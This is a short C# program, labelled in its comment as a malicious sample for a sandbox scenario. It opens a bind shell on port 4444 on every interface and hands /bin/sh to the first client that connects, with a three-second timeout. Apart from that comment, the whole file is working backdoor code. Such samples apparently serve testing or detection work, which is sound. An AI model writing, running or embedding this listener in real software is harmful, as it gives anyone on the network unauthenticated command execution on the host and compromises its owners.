// MALICIOUS SAMPLE (runs only in the sandbox): opens a bind shell on every interface, port 4444: whoever connects
// gets /bin/sh. It gives up after a few seconds, so the scenario ends on its own.
using System.Diagnostics;
using System.Net;
using System.Net.Sockets;

var listener = new TcpListener(IPAddress.Any, 4444);
listener.Start();
Console.WriteLine("listening");
using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(3));
try
{
    using var client = await listener.AcceptTcpClientAsync(timeout.Token);
    using var shell = Process.Start(new ProcessStartInfo("/bin/sh") { RedirectStandardInput = true, RedirectStandardOutput = true, UseShellExecute = false })!;
    await client.GetStream().CopyToAsync(shell.StandardInput.BaseStream);
}
catch (OperationCanceledException)
{
    Console.WriteLine("nobody came");
}
finally
{
    listener.Stop();
}
